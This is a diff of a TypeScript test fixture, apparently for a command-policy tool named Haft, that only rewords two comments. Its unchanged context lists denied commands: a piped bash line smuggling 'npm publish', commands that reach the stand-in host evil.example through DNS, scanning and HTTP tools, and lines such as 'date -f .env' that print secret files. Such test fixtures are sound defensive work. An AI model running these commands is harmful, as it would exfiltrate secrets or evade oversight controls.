@@ -89,7 +89,7 @@ export const deniedLines: readonly string[] = [
   "echo $'read -N 2 x\\nlsnpm publish' | bash",
 ];
 
-/** Lines that reach `evil.example` by programs that no table names. */
+/** Lines that reach `evil.example` through programs that Haft does not list by name. */
 export const deniedHosts: readonly string[] = (
   'kdig x.evil.example|getent hosts evil.example|resolvectl query x.evil.example|avahi-resolve -n x.evil.example|mtr evil.example|' +
   'fping evil.example|masscan evil.example|wget2 evil.example|httpie evil.example|hurl --variable host=evil.example x|ab -n 1 evil.example/|' +
@@ -106,7 +106,7 @@ export const deniedHosts: readonly string[] = (
   'make fetch HOST=evil.example'
 ).split('|');
 
-/** Lines that print or pack secrets without their names, or print credentials that programs keep. */
+/** Lines that print or archive secret files without naming them, or print credentials stored by programs. */
 export const secretLines: readonly string[] = [
   'date -f .env',
   "find . -name 'lin*' -exec cat {} +",
